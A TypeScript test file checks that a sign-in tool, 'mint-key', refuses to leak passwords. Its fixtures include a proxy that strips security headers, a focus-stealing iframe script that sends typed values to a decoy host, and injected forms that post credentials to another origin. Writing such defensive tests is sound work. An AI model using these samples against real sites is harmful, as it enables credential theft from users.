import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startDecoy } from '../faults/fault-proxy.ts';
import { forward, pass } from '../faults/faults.ts';
import { credentials, expect, test } from '../fixtures.ts';

/** Passes everything on, but serves a sign-in page of its own, or changes the server's. */
async function replacePage(
  target: string,
  rewrite: (page: string) => string,
): Promise<{ url: string } & AsyncDisposable> {
  const server = createServer(async (incoming, outgoing) => {
    const exchange = { incoming, outgoing, target, elsewhere: '' };
    const reply = await forward(exchange);
    // The server's own policy would forbid what is tried here.
    const { 'content-security-policy': _, 'x-frame-options': __, ...headers } = reply.headers;
    pass(exchange, { ...reply, headers }, incoming.url === '/app' ? rewrite(String(reply.body)) : reply.body);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  const close = async () => {
    await new Promise((done) => {
      server.close(done);
      server.closeAllConnections();
    });
  };
  return { url: `http://127.0.0.1:${port}`, [Symbol.asyncDispose]: close };
}

test('a frame of another origin that keeps taking the focus gets nothing of what is typed', async ({
  startServer,
  runCommand,
}) => {
  const server = await startServer({ drawFormAfterMs: 300 });
  await using decoy = await startDecoy(
    `<input type="password" autofocus><script>
       const field = document.querySelector('input');
       setInterval(() => field.focus(), 1);
       field.oninput = () => fetch('/took?' + encodeURIComponent(field.value));
     </script>`,
  );
  const frame = `<body><iframe src="${decoy.url}/frame" width="300" height="100"></iframe>`;
  await using site = await replacePage(server.url, (page) => page.replace('<body>', frame));
  const { stderr } = await runCommand('mint-key', {
    env: { ...credentials(server), OCTOPUS_URL: site.url },
    words: ['--timeout', '15s'],
  });

  expect(decoy.heard.join('\n'), stderr).not.toMatch(/took\?./);
  expect(decoy.heard.length).toBeGreaterThan(0);
});

for (const [what, form] of Object.entries({
  'a form':
    '<form method="post" action="DECOY/login"><input type="text"><input type="password"><button>Sign in</button></form>',
  'a button':
    '<form><input type="text"><input type="password"><button formaction="DECOY/login" formmethod="post">Sign in</button></form>',
  'a form below a base address':
    '<base href="DECOY/"><form method="post" action="login"><input type="text"><input type="password"><button>Sign in</button></form>',
})) {
  test(`${what} that would send the password to another origin is not filled in: exit 4, naming it`, async ({
    startServer,
    runCommand,
  }) => {
    const server = await startServer();
    await using decoy = await startDecoy();
    await using site = await replacePage(
      server.url,
      () => `<body>${form.replace('DECOY', decoy.url)}</body>`,
    );
    const { code, stderr } = await runCommand('mint-key', {
      env: { ...credentials(server), OCTOPUS_URL: site.url },
      words: ['--timeout', '15s'],
    });

    expect(code, stderr).toBe(4);
    expect(stderr).toContain(decoy.url);
    expect(decoy.heard).toEqual([]);
  });
}
